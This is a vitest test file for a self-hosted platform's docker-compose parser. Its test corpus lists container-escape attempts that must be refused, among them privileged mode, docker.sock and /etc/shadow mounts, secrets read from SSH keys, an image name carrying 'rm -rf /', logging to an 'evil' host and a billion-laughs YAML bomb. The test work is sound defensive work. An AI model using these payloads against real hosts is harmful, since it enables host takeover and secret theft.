import { describe, expect, it } from "vitest";
import { Invalid } from "../domain/errors.js";
import { errorResponse } from "../http/errors.js";
import { bindSources, parseCompose } from "./parse.js";
import { LIMITS } from "./schema.js";

/** The 422 reasons parseCompose gives for `raw`; fails the test when it accepts it. */
function refusal(raw: string): string[] {
  try {
    parseCompose(raw);
  } catch (err) {
    expect(err).toBeInstanceOf(Invalid);
    const e = err as Invalid;
    expect(errorResponse(e)?.status).toBe(422);
    expect(Object.keys(e.errors ?? {})).toEqual(["docker_compose_raw"]);
    return e.errors!.docker_compose_raw!;
  }
  throw new Error(`accepted:\n${raw}`);
}

/** A one-service file with `extra` (YAML lines, already indented for the service) added to it. */
const web = (extra: string) => `services:\n  web:\n    image: nginx:1.27\n${extra}\n`;

/**
 * Escape attempts of the kinds published in advisories of self-hosted PaaS and container
 * dashboards (Coolify, Dokploy, CapRover, Portainer and the like): each must be refused with
 * a reason that names the problem.
 */
const CORPUS: { name: string; raw: string; reason: RegExp }[] = [
  // Host takeover through container privileges and namespaces
  { name: "privileged container", raw: web("    privileged: true"), reason: /privileged is refused: privileged containers/ },
  { name: "privileged: false is refused too (the key itself is out of scope)", raw: web("    privileged: false"), reason: /privileged is refused/ },
  { name: "cap_add SYS_ADMIN", raw: web("    cap_add: [SYS_ADMIN]"), reason: /cap_add is refused: extra kernel capabilities/ },
  { name: "host devices", raw: web("    devices: ['/dev/sda:/dev/sda']"), reason: /devices is refused/ },
  { name: "host pid namespace", raw: web("    pid: host"), reason: /pid is refused: sharing the server's/ },
  { name: "pid of another container", raw: web("    pid: 'container:capstan-proxy'"), reason: /pid is refused/ },
  { name: "host ipc", raw: web("    ipc: host"), reason: /ipc is refused/ },
  { name: "host network", raw: web("    network_mode: host"), reason: /network_mode is refused: the platform manages networks/ },
  { name: "the proxy's network namespace", raw: web("    network_mode: 'container:capstan-proxy'"), reason: /network_mode is refused/ },
  { name: "userns off", raw: web("    userns_mode: host"), reason: /userns_mode is refused/ },
  { name: "uts host", raw: web("    uts: host"), reason: /uts is refused/ },
  { name: "cgroup host", raw: web("    cgroup: host"), reason: /cgroup is refused/ },
  { name: "seccomp off", raw: web("    security_opt: ['seccomp:unconfined']"), reason: /only no-new-privileges:true is allowed/ },
  { name: "apparmor off", raw: web("    security_opt: ['apparmor=unconfined']"), reason: /only no-new-privileges:true is allowed/ },
  { name: "selinux labels off", raw: web("    security_opt: ['label:disable']"), reason: /switch off the container's confinement/ },
  { name: "kernel parameters", raw: web("    sysctls: {net.ipv4.ip_forward: 1}"), reason: /sysctls is refused/ },
  { name: "other runtime", raw: web("    runtime: runc"), reason: /runtime is refused/ },
  { name: "gpus", raw: web("    gpus: all"), reason: /gpus is refused/ },
  { name: "GPU devices through deploy reservations", raw: web("    deploy:\n      resources:\n        reservations:\n          devices: [{capabilities: [gpu]}]"), reason: /reservations is not supported/ },
  // The engine's socket and the server's files
  { name: "docker.sock bind", raw: web("    volumes: ['/var/run/docker.sock:/var/run/docker.sock']"), reason: /\/var\/run\/docker\.sock.*system directory/ },
  { name: "docker.sock via /run", raw: web("    volumes: ['/run/docker.sock:/docker.sock:ro']"), reason: /system directory/ },
  { name: "docker.sock long syntax", raw: web("    volumes:\n      - type: bind\n        source: /var/run/docker.sock\n        target: /var/run/docker.sock"), reason: /system directory/ },
  { name: "the whole host", raw: web("    volumes: ['/:/host']"), reason: /system directory/ },
  { name: "/etc", raw: web("    volumes: ['/etc:/host-etc:ro']"), reason: /"\/etc".*system directory/ },
  { name: "/etc/shadow", raw: web("    volumes: ['/etc/shadow:/shadow']"), reason: /system directory/ },
  { name: "root's ssh keys", raw: web("    volumes: ['/root/.ssh:/keys']"), reason: /system directory/ },
  { name: "engine state", raw: web("    volumes: ['/var/lib/docker:/d']"), reason: /system directory/ },
  { name: "agent state", raw: web("    volumes: ['/var/lib/capstan-agent:/a']"), reason: /system directory/ },
  { name: "/proc", raw: web("    volumes: ['/proc:/p']"), reason: /system directory/ },
  { name: "traversal in an absolute path", raw: web("    volumes: ['/srv/../etc:/x']"), reason: /'\.' or '\.\.' segments/ },
  { name: "relative traversal", raw: web("    volumes: ['../../../../etc:/x']"), reason: /relative and home-directory bind mounts are not supported/ },
  { name: "relative bind (the agent's state directory)", raw: web("    volumes: ['./:/state']"), reason: /relative and home-directory/ },
  { name: "home directory", raw: web("    volumes: ['~/.ssh:/keys']"), reason: /relative and home-directory/ },
  { name: "traversal in the container path", raw: web("    volumes: ['data:/x/../../etc']\nvolumes: {data: {}}"), reason: /mount path.*'\.' or '\.\.' segments/ },
  { name: "bind propagation", raw: web("    volumes:\n      - type: bind\n        source: /srv/data\n        target: /data\n        bind: {propagation: rshared}"), reason: /bind is not supported/ },
  { name: "SELinux relabel of a server path", raw: web("    volumes: ['/srv/data:/data:z']"), reason: /mount mode "z" is not supported/ },
  { name: "variable in a bind source", raw: web("    volumes: ['${HOME}:/home']"), reason: /variables are not supported in volumes/ },
  // Disguised system directories (issue 15): normalised first, then refused, in both syntaxes
  ...["//etc", "/var//run/docker.sock", "///root/.ssh", "/var/lib//docker", "/var", "/home", "/var/spool/cron/crontabs", "/", "/srv/..", "/usr/", "/tmp"].flatMap((src) => [
    { name: `short syntax bind of ${src}`, raw: web(`    volumes: ['${src}:/x']`), reason: /system directory/ },
    { name: `long syntax bind of ${src}`, raw: web(`    volumes:\n      - type: bind\n        source: '${src}'\n        target: /x`), reason: /system directory/ },
  ]),
  { name: "long syntax bind with a relative source (compose resolves it against the agent's state directory)", raw: web("    volumes:\n      - type: bind\n        source: data\n        target: /x"), reason: /absolute path/ },
  { name: "volume driver binding a host directory with o: bind", raw: web("    volumes: ['data:/data']\nvolumes:\n  data:\n    driver: local\n    driver_opts: {type: none, o: bind, device: /srv/../etc}"), reason: /driver_opts is refused/ },
  { name: "volume driver binding a host device", raw: web("    volumes: ['data:/data']\nvolumes:\n  data:\n    driver_opts: {type: none, o: bind, device: /etc}"), reason: /driver_opts is refused: volume driver options can bind/ },
  { name: "another application's volume", raw: web("    volumes: ['data:/data']\nvolumes:\n  data:\n    external: true\n    name: 1b0c-other-app-data"), reason: /external is refused: external volumes may belong to other applications/ },
  { name: "volume renamed onto another application's", raw: web("    volumes: ['data:/data']\nvolumes:\n  data:\n    name: 1b0c-other-app-data"), reason: /name is refused: volume names are set by the platform/ },
  { name: "non-local volume driver", raw: web("    volumes: ['data:/data']\nvolumes:\n  data:\n    driver: nfs"), reason: /only the local volume driver/ },
  { name: "other containers' volumes", raw: web("    volumes_from: ['container:capstan-proxy']"), reason: /volumes_from is refused/ },
  { name: "undeclared named volume", raw: web("    volumes: ['data:/data']"), reason: /volume data is not declared/ },
  // Reading the server's files through compose itself
  { name: "env_file /etc/shadow", raw: web("    env_file: /etc/shadow"), reason: /env_file is refused: compose cannot read files on the server/ },
  { name: "env_file .env", raw: web("    env_file: [.env]"), reason: /env_file is refused/ },
  { name: "extends from a server file", raw: web("    extends: {file: /etc/passwd, service: root}"), reason: /extends is refused: compose cannot read other files/ },
  { name: "include", raw: `include: [/etc/compose.yml]\n${web("")}`, reason: /include is refused/ },
  { name: "secret from a server file", raw: `${web("    secrets: [key]")}secrets:\n  key:\n    file: /root/.ssh/id_rsa\n`, reason: /secrets is refused: compose secrets read files/ },
  { name: "config from the agent's environment", raw: `configs:\n  token:\n    environment: CAPSTAN_AGENT_TOKEN\n${web("")}`, reason: /configs is refused/ },
  // Building from arbitrary sources
  { name: "build from a remote git context", raw: "services:\n  web:\n    build: https://github.com/attacker/repo.git#main\n", reason: /build is refused: compose applications run images/ },
  { name: "build with an inline Dockerfile", raw: "services:\n  web:\n    image: x\n    build:\n      context: .\n      dockerfile_inline: 'FROM scratch'\n", reason: /build is refused/ },
  { name: "no image", raw: "services:\n  web:\n    command: [sh]\n", reason: /services\.web\.image: image is required/ },
  { name: "option-like image", raw: web("").replace("nginx:1.27", "'--privileged'"), reason: /use an image reference/ },
  { name: "shell in an image name", raw: web("").replace("nginx:1.27", "'alpine; rm -rf /'"), reason: /use an image reference/ },
  // Networks and other applications
  { name: "external network of another destination", raw: `${web("    networks: [other]")}networks:\n  other:\n    external: true\n`, reason: /networks is refused: the platform manages networks/ },
  { name: "links to containers outside the application", raw: web("    external_links: ['capstan-proxy:proxy']"), reason: /external_links is refused/ },
  { name: "links to a service that is not in the file", raw: web("    links: ['db']"), reason: /links: there is no service db/ },
  { name: "depends_on an unknown service", raw: web("    depends_on: [db]"), reason: /depends_on: there is no service db/ },
  { name: "depends_on cycle", raw: "services:\n  a:\n    image: x\n    depends_on: [b]\n  b:\n    image: x\n    depends_on: [a]\n", reason: /cycle \(a -> b -> a\)/ },
  { name: "logging to a remote syslog", raw: web("    logging: {driver: syslog, options: {syslog-address: 'tcp://evil:514'}}"), reason: /logging is refused/ },
  // Host ports bypass the proxy
  { name: "published port", raw: web("    ports: ['80:80']"), reason: /publishing ports on the server is not supported/ },
  { name: "engine API port on all interfaces", raw: web("    ports: ['0.0.0.0:2375:2375']"), reason: /publishing ports on the server/ },
  { name: "published port, long syntax", raw: web("    ports: [{target: 80, published: 8080}]"), reason: /publishing ports on the server/ },
  { name: "port range", raw: web("    ports: ['3000-3005']"), reason: /port ranges are not supported/ },
  // Interpolation must not reach the agent's environment
  { name: "command substitution read as a variable", raw: web("    command: sh -c \"echo $(cat /proc/1/environ)\""), reason: /does not start a variable: write \$\$ for a literal \$/ },
  { name: "variable in a port", raw: web("    expose: ['${PORT}']"), reason: /is not a port/ },
  { name: "malformed variable", raw: web("    environment: {A: '${A B}'}"), reason: /A: invalid variable/ },
  // Names that would escape the naming scheme
  { name: "service name with a path", raw: "services:\n  ../web:\n    image: x\n", reason: /service names are 1-26 lowercase/ },
  { name: "service name too long for a DNS label", raw: `services:\n  ${"a".repeat(27)}:\n    image: x\n`, reason: /service names/ },
  { name: "environment key with shell syntax", raw: web("    environment: ['A;id=1']"), reason: /is not a variable name/ },
  { name: "label key with a newline", raw: web("    labels: {\"capstan.proxy.routes\\n\": x}"), reason: /is not a valid label key/ },
  { name: "public service that does not exist", raw: `x-capstan-public-service: admin\n${web("")}`, reason: /there is no service admin/ },
  { name: "replicas (fixed container names)", raw: web("    deploy: {replicas: 3}"), reason: /replicas is not supported/ },
  { name: "scale", raw: web("    scale: 3"), reason: /scale is refused/ },
  // YAML-level attacks
  {
    name: "billion laughs",
    raw: [
      "x-a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]",
      "x-b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]",
      "x-c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]",
      "x-d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]",
      "x-e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]",
      "x-f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]",
      "x-g: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f]",
      "x-h: &h [*g, *g, *g, *g, *g, *g, *g, *g, *g]",
      "x-i: &i [*h, *h, *h, *h, *h, *h, *h, *h, *h]",
      "services:",
      "  web:",
      "    image: nginx",
      "    labels: *i",
    ].join("\n"),
    reason: /YAML aliases expand too much/,
  },
  { name: "too many aliases", raw: `x-a: &a x\nx-list: [${Array(LIMITS.aliases + 1).fill("*a").join(", ")}]\n${web("")}`, reason: /YAML aliases; the limit is 100/ },
  { name: "oversized document", raw: web(`    environment:\n${Array.from({ length: 3000 }, (_, i) => `      VAR_${i}: '${"x".repeat(100)}'`).join("\n")}`), reason: /bytes; the limit is 262144/ },
  { name: "too many services", raw: `services:\n${Array.from({ length: LIMITS.services + 1 }, (_, i) => `  s${i}:\n    image: x\n`).join("")}`, reason: /at most 32 services/ },
  { name: "PyYAML object tag", raw: web("    command: !!python/object/apply:os.system ['id']"), reason: /tag/i },
  { name: "custom tag", raw: web("    command: !ENV ${CMD}"), reason: /tag/i },
  { name: "duplicate keys that hide a value", raw: "services:\n  web:\n    image: nginx\n    image: evil\n", reason: /YAML: Map keys must be unique/ },
  { name: "merge key smuggling privileged", raw: "x-base: &base\n  privileged: true\nservices:\n  web:\n    <<: *base\n    image: nginx\n", reason: /privileged is refused/ },
  { name: "several documents", raw: `${web("")}---\n${web("    privileged: true")}`, reason: /must be a single YAML document/ },
  { name: "not a mapping", raw: "- image: nginx\n", reason: /must be a mapping with a services key/ },
  { name: "empty", raw: "   \n", reason: /empty/ },
  { name: "syntax error", raw: "services:\n  web: {image: nginx\n", reason: /YAML/ },
  { name: "NUL characters", raw: web("    environment: {A: \"a\\0b\"}").replace("\\0", "\u0000"), reason: /NUL/ },
];

describe("parseCompose refuses what escapes the platform's control", () => {
  it.each(CORPUS)("$name", ({ raw, reason }) => {
    const reasons = refusal(raw);
    expect(reasons.join("\n")).toMatch(reason);
  });

  it("reports every problem of a file at once, bounded", () => {
    const reasons = refusal(web("    privileged: true\n    cap_add: [ALL]\n    pid: host\n    volumes: ['/etc:/etc']"));
    expect(reasons).toHaveLength(4);
    const many = refusal(`services:\n${Array.from({ length: 30 }, (_, i) => `  s${i}:\n    image: x\n    privileged: true\n`).join("")}`);
    expect(many).toHaveLength(21);
    expect(many[20]).toBe("... and 10 more problems");
  });

  it("names unknown keys as unsupported rather than dangerous", () => {
    expect(refusal(web("    dns: [8.8.8.8]"))).toEqual(["services.web.dns is not supported (docs/compose.md lists the supported keys)"]);
    expect(refusal(`${web("")}secretz: 1\n`)).toEqual(["secretz is not supported (docs/compose.md lists the supported keys)"]);
  });
});

describe("parseCompose accepts the supported subset", () => {
  const RAW = `
version: "3.8"
name: ignored
x-capstan-public-service: web
x-common: &common
  restart: always
  labels:
    team: blue
    capstan.proxy.routes: '[{"host":"victim.example.com","https":false,"path":"/"}]'
    Capstan.Domains: victim.example.com
    com.docker.compose.project: capstan-someone-else
services:
  db:
    <<: *common
    image: postgres:16
    environment:
      POSTGRES_PASSWORD: \${DB_PASSWORD:?set DB_PASSWORD}
      POSTGRES_DB: app
    volumes:
      - pgdata:/var/lib/postgresql/data
    healthcheck:
      test: pg_isready -U postgres
      interval: 2s
      retries: 20
  web:
    image: ghcr.io/example/web:\${TAG:-latest}
    command: ["node", "server.js", "--port", "3000"]
    environment:
      - DATABASE_URL=postgres://postgres:\${DB_PASSWORD}@db/app
      - API_KEY
      - DEBUG=yes
    ports: ["3000"]
    expose: [9090, "53/udp"]
    volumes:
      - /srv/uploads:/app/uploads:ro
      - type: volume
        source: cache
        target: /cache
        volume: {nocopy: true}
      - /anonymous
      - type: tmpfs
        target: /tmp/fast
        tmpfs: {size: 64m}
    tmpfs: /run/app
    depends_on:
      db: {condition: service_healthy}
    links: ["db:database"]
    labels: ["traefik.enable=false", "capstan.managed=false"]
    working_dir: /app
    user: "1000:1000"
    hostname: web
    deploy:
      resources:
        limits: {cpus: "0.5", memory: 256m, pids: 200}
    stop_grace_period: 5s
    init: true
    read_only: false
    cap_drop: [NET_RAW]
    security_opt: ["no-new-privileges:true"]
    restart: "no"
volumes:
  pgdata:
  cache:
    labels: {backup: daily, capstan.resource.uuid: other}
`;

  it("normalises services, volumes and the public service, dropping reserved labels", () => {
    const doc = parseCompose(RAW);
    expect(doc.publicService).toBe("web");
    expect(doc.services.map((s) => s.name)).toEqual(["db", "web"]);
    const [db, web] = doc.services as [(typeof doc.services)[0], (typeof doc.services)[0]];
    expect(db.restart).toBe("always");
    expect(db.labels).toEqual({ team: "blue" });
    expect(db.environment).toEqual([
      { key: "POSTGRES_PASSWORD", value: "${DB_PASSWORD:?set DB_PASSWORD}" },
      { key: "POSTGRES_DB", value: "app" },
    ]);
    expect(db.mounts).toEqual([{ type: "volume", source: "pgdata", target: "/var/lib/postgresql/data", readOnly: false, nocopy: false }]);
    expect(db.healthcheck).toEqual({ test: ["CMD-SHELL", "pg_isready -U postgres"], interval: "2s", timeout: null, startPeriod: null, retries: 20, disable: false });

    expect(web.image).toBe("ghcr.io/example/web:${TAG:-latest}");
    expect(web.command).toEqual(["node", "server.js", "--port", "3000"]);
    expect(web.environment).toEqual([
      { key: "DATABASE_URL", value: "postgres://postgres:${DB_PASSWORD}@db/app" },
      { key: "API_KEY", value: null },
      { key: "DEBUG", value: "yes" },
    ]);
    expect(web.expose).toEqual(["3000", "9090", "53/udp"]);
    expect(web.mounts).toEqual([
      { type: "bind", source: "/srv/uploads", target: "/app/uploads", readOnly: true },
      { type: "volume", source: "cache", target: "/cache", readOnly: false, nocopy: true },
      { type: "volume", source: null, target: "/anonymous", readOnly: false, nocopy: false },
      { type: "tmpfs", target: "/tmp/fast", size: 64 * 1024 * 1024 },
      { type: "tmpfs", target: "/run/app", size: null },
    ]);
    expect(web.dependsOn).toEqual([{ service: "db", condition: "service_healthy" }]);
    expect(web.links).toEqual([{ service: "db", alias: "database" }]);
    expect(web.labels).toEqual({ "traefik.enable": "false" });
    expect(web).toMatchObject({
      restart: "no",
      workingDir: "/app",
      user: "1000:1000",
      hostname: "web",
      memLimit: "256m",
      cpus: "0.5",
      pidsLimit: 200,
      stopGracePeriod: "5s",
      init: true,
      readOnly: false,
      capDrop: ["NET_RAW"],
      noNewPrivileges: true,
    });
    expect(doc.volumes).toEqual([
      { name: "pgdata", labels: {} },
      { name: "cache", labels: { backup: "daily" } },
    ]);
  });

  it("takes bind sources in their normal form, in short and long syntax, and lists them once", () => {
    const doc = parseCompose(
      "services:\n  app:\n    image: nginx\n    volumes:\n      - //srv//app/./data/:/data\n      - type: bind\n        source: /srv/app/x/../data\n        target: /data2\n      - /opt/app:/opt\n",
    );
    expect(doc.services[0]!.mounts).toEqual([
      { type: "bind", source: "/srv/app/data", target: "/data", readOnly: false },
      { type: "bind", source: "/srv/app/data", target: "/data2", readOnly: false },
      { type: "bind", source: "/opt/app", target: "/opt", readOnly: false },
    ]);
    expect(bindSources(doc)).toEqual(["/srv/app/data", "/opt/app"]);
    expect(bindSources(parseCompose("services:\n  app:\n    image: nginx\n    volumes: ['data:/data']\nvolumes: {data: {}}\n"))).toEqual([]);
  });

  it("defaults the public service to the first service and restart to unless-stopped", () => {
    const doc = parseCompose("services:\n  app:\n    image: nginx\n  worker:\n    image: nginx\n");
    expect(doc.publicService).toBe("app");
    expect(doc.services.map((s) => s.restart)).toEqual(["unless-stopped", "unless-stopped"]);
    expect(doc.services[0]!.healthcheck).toBeNull();
  });

  it("keeps YAML 1.2 scalars as written (no 1.1 booleans or octals)", () => {
    const doc = parseCompose("services:\n  app:\n    image: nginx\n    environment:\n      A: no\n      B: 0755\n      C: on\n      D: true\n      E: 3000\n");
    expect(doc.services[0]!.environment).toEqual([
      { key: "A", value: "no" },
      { key: "B", value: "755" },
      { key: "C", value: "on" },
      { key: "D", value: "true" },
      { key: "E", value: "3000" },
    ]);
  });
});
